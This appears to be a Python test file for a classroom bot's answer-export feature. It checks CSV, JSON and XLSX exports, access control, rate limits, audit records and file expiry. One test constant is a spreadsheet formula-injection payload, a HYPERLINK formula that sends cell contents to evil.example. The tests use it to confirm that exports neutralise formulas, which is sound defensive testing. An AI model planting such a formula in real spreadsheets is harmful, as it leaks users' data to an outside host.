"""Answers taken along: whole, harmless in a spreadsheet, noted for those who gave them."""

import asyncio
import csv
import io
import json
import zipfile
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass
from datetime import timedelta
from functools import partial
from pathlib import Path
from zoneinfo import ZoneInfo

import httpx
import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st

from bot.core.people import PersonId, Role
from bot.core.runs import RunId
from bot.storage.audit import Reader, readers_of
from bot.storage.connection import Connection
from bot.storage.exports import ExportRow, Taken, export_chunk
from bot.storage.tables import answers
from bot.web.exporting import HEADS, Sheet, harmless, write_csv, write_json, write_xlsx
from bot.web.making_files import KEPT, Chunks, Files, Making
from bot.web.pages.export import AT_ONCE
from bot.web.throttle import EXPORTS
from tests.stage import ADA, CY, NOW, OLA
from tests.web.answering import WEEKLY, answer
from tests.web.house import BEN, CLASS, DEE, Stage, enrol, submit

PAGE = f"/groups/{CLASS}/export"
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Click")'
SHEET = Sheet({"weekly-check-in": "Weekly check-in"}, ZoneInfo("Europe/Berlin"))


async def take(ada: httpx.AsyncClient, kind: str, *, flow: str = "", days: str = "") -> httpx.Response:
    """Fill the form in and send it."""
    return await submit(ada, await ada.get(PAGE), "", kind=kind, flow=flow, days=days)


def a_row(number: int = 0, said: str = "The scale", name: str = "Ben") -> ExportRow:
    """Make up an answer."""
    return ExportRow(
        run=RunId(f"run-{number:06}"),
        person=BEN,
        name=name,
        flow="weekly-check-in",
        key="part",
        asked="Which part?",
        said=said,
        is_skipped=False,
        answered_at=NOW + timedelta(minutes=number),
        edited_at=None,
        is_late=False,
    )


async def chunks_of(*rows: ExportRow) -> AsyncIterator[Sequence[ExportRow]]:
    """Hand rows out one by one."""
    for row in rows:
        yield [row]


def cells_in(workbook: bytes) -> str:
    """Read the sheet of a workbook as it is written."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as parts:
        return parts.read("xl/worksheets/sheet1.xml").decode()


async def test_a_group_is_taken_along_in_each_form_with_every_answer_but_private_ones(stage: Stage) -> None:
    await answer(stage, raw={**WEEKLY, "part": FORMULA})
    ada = await stage.signed_in(ADA)
    table = await take(ada, "csv")
    assert table.headers["content-disposition"] == 'attachment; filename="answers-2026-03-06.csv"'
    rows = list(csv.reader(io.StringIO(table.text.lstrip("\ufeff"))))
    assert tuple(rows[0]) == HEADS
    assert f"'{FORMULA}" in {row[4] for row in rows}
    found = json.loads((await take(ada, "json")).text)
    assert len(found) == len(rows) - 1
    assert FORMULA in {one["answer"] for one in found}
    book = cells_in((await take(ada, "xlsx")).content)
    assert "<f>" not in book
    assert "HYPERLINK" in book


async def test_only_what_was_asked_for_is_in_it(stage: Stage) -> None:
    await answer(stage, raw={**WEEKLY, "part": "Old words"})
    stage.hands.move(days=10)
    await answer(stage, flow="plan-work", raw={"work": "New words"})
    ada = await stage.signed_in(ADA)
    assert "Old words" not in (await take(ada, "csv", days="7")).text
    only = (await take(ada, "csv", flow="weekly-check-in")).text
    assert ("Old words" in only, "New words" in only) == (True, False)
    assert json.loads((await take(ada, "json", flow="none")).text) == []


async def test_whose_answers_were_taken_can_see_by_whom(stage: Stage) -> None:
    await answer(stage)
    ada = await stage.signed_in(ADA)
    await take(ada, "csv")
    await ada.get(f"/groups/{CLASS}/people/{BEN}/print")

    def readers(connection: Connection) -> list[Reader]:
        return readers_of(connection, BEN)

    [reader] = await stage.database.read(readers)
    assert (reader.name, reader.times, reader.has_exported) == ("Ms Ada", 2, True)


@pytest.mark.parametrize("who", [CY, BEN, DEE])
async def test_whoever_may_not_read_finds_nothing(stage: Stage, who: PersonId) -> None:
    await answer(stage)
    ada, other = await stage.signed_in(ADA), await stage.signed_in(who)
    assert (await other.get(PAGE)).status_code == 404
    assert (await other.get(f"/groups/{CLASS}/people/{BEN}/print")).status_code == 404
    assert (await other.post(PAGE, data={"kind": "csv", "days": ""})).status_code == 404
    assert (await ada.get(f"/groups/{CLASS}/people/{CY}/print")).status_code == 404
    assert (await take(ada, "exe")).status_code == 404


async def test_too_many_files_in_an_hour_are_refused_kindly(stage: Stage) -> None:
    ada = await stage.signed_in(ADA)
    await answer(stage)
    for _ in range(EXPORTS.amount):
        assert (await take(ada, "json")).status_code == 200
    refused = await take(ada, "json")
    assert refused.status_code == 429
    assert "try again later" in refused.text


async def test_on_paper_stand_the_answers_and_what_was_written_about_them(stage: Stage) -> None:
    await answer(stage, raw={**WEEKLY, "part": "<b>Bold</b> words"})
    page = (await (await stage.signed_in(ADA)).get(f"/groups/{CLASS}/people/{BEN}/print")).text
    assert "&lt;b&gt;Bold&lt;/b&gt; words" in page
    assert "can see that you took it along" in page


# Large files, made while a page says how far they are.


@dataclass
class Slow:
    """A file of three answers whose last one comes when it is let."""

    making: Making
    rest: asyncio.Event

    @property
    def page(self) -> str:
        """Name its page."""
        return f"{PAGE}/{self.making.id}"

    async def be_written(self) -> None:
        """Let the rest come, and wait until all is written."""
        self.rest.set()
        assert self.making.task is not None
        await self.making.task


def a_slow_file(stage: Stage, *, is_broken: bool = False) -> Slow:
    """Begin to make a file for Ada."""
    rest, files = asyncio.Event(), stage.app.state.files
    assert isinstance(files, Files)

    async def chunks() -> Chunks:
        yield [a_row(1), a_row(2)]
        await rest.wait()
        if is_broken:
            raise OSError
        yield [a_row(3)]

    making = files.begin(
        partial(write_csv, sheet=SHEET),
        chunks(),
        person=ADA,
        group=CLASS,
        kind="csv",
        name="answers.csv",
        total=3,
        now=stage.hands(),
    )
    return Slow(making, rest)


async def test_a_large_file_says_how_far_it_is_and_waits_to_be_taken(stage: Stage) -> None:
    ada, slow = await stage.signed_in(ADA), a_slow_file(stage)
    page = await ada.get(slow.page)
    while "2 of 3 answers" not in page.text:
        page = await ada.get(slow.page)
    assert (await ada.get(f"{slow.page}/download")).headers["location"] == slow.page
    await slow.be_written()
    assert "Your file is ready: 3 answers." in (await ada.get(slow.page)).text
    for _ in range(2):
        file = await ada.get(f"{slow.page}/download")
        assert file.headers["content-disposition"] == 'attachment; filename="answers.csv"'
        assert len(file.text.splitlines()) == 4


async def test_more_answers_than_are_sent_at_once_lead_to_that_page(stage: Stage) -> None:
    await answer(stage)

    def work(connection: Connection) -> None:
        row = connection.execute(sa.select(answers).limit(1)).mappings().one()
        many = [{**row, "key": f"part.{number}"} for number in range(AT_ONCE)]
        connection.execute(sa.insert(answers), many)

    await stage.database.write(work)
    ada = await stage.signed_in(ADA)
    page = await take(ada, "csv")
    assert page.url.path.startswith(f"{PAGE}/")
    while "Your file is ready" not in page.text:
        page = await ada.get(page.url)
    assert len((await ada.get(f"{page.url}/download")).text.splitlines()) > AT_ONCE


async def test_a_file_is_for_nobody_else_and_not_for_ever(stage: Stage) -> None:
    ada, slow = await stage.signed_in(ADA), a_slow_file(stage)
    await slow.be_written()
    await enrol(stage, {OLA: "Ola, who leads the class as well"}, role=Role.FACILITATOR)
    for other in (CY, BEN, DEE, OLA):
        assert (await (await stage.signed_in(other)).get(f"{slow.page}/download")).status_code == 404
    stage.hands.move(seconds=KEPT.total_seconds() + 1)
    assert (await ada.get(slow.page)).status_code == 404
    a_slow_file(stage).rest.set()
    assert not slow.making.path.exists()


async def test_a_file_that_cannot_be_made_says_so(stage: Stage, caplog: pytest.LogCaptureFixture) -> None:
    ada, slow = await stage.signed_in(ADA), a_slow_file(stage, is_broken=True)
    await slow.be_written()
    assert "could not be made" in (await ada.get(slow.page)).text
    assert (await ada.get(f"{slow.page}/download")).headers["location"] == slow.page
    assert "OSError" in caplog.text


# The forms.


@given(st.text(max_size=60))
def test_no_cell_of_a_table_begins_like_a_formula(cell: str) -> None:
    safe = harmless(cell)
    assert not safe.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "|", "%"))
    assert safe.replace("'", "") == cell.replace("\0", "").replace("'", "")


async def test_a_table_reads_back_as_it_was_said(tmp_path: Path) -> None:
    said = 'Two\nlines, "quoted"; and a – dash'
    await write_csv(tmp_path / "a.csv", chunks_of(a_row(said=said)), SHEET)
    written = (tmp_path / "a.csv").read_bytes().decode()
    assert written.startswith("\ufeff")
    _, row = csv.reader(io.StringIO(written, newline=""))
    assert row == ["Ben", "2026-03-06 11:40", "Weekly check-in", "Which part?", said, "", "", ""]


async def test_data_reads_back_as_it_was_said(tmp_path: Path) -> None:
    rows = [a_row(number, said=said) for number, said in enumerate(("=1+1", "\u2028", '"'))]
    await write_json(tmp_path / "a.json", chunks_of(*rows), SHEET)
    assert [one["answer"] for one in json.loads((tmp_path / "a.json").read_text())] == ["=1+1", "\u2028", '"']


async def test_every_cell_of_a_workbook_is_text(tmp_path: Path) -> None:
    rows = [a_row(n, said=said) for n, said in enumerate((FORMULA, "https://school.example", "12", "1e5", "@SUM(A1)"))]
    await write_xlsx(tmp_path / "a.xlsx", chunks_of(*rows), SHEET)
    book = cells_in((tmp_path / "a.xlsx").read_bytes())
    assert "<f>" not in book
    assert "<hyperlink" not in book
    assert book.count("<c ") == book.count('t="inlineStr"')


async def test_chunks_go_on_where_the_last_one_ended(stage: Stage) -> None:
    for _ in range(3):
        await answer(stage)
        stage.hands.move(days=7)
    taken = Taken(group=CLASS)

    def work(connection: Connection) -> tuple[list[ExportRow], list[ExportRow]]:
        whole = export_chunk(connection, taken, None, 1_000)
        parts: list[ExportRow] = []
        while more := export_chunk(connection, taken, parts[-1].after if parts else None, 2):
            parts += more
        return whole, parts

    whole, parts = await stage.database.read(work)
    assert len(whole) > 4
    assert parts == whole
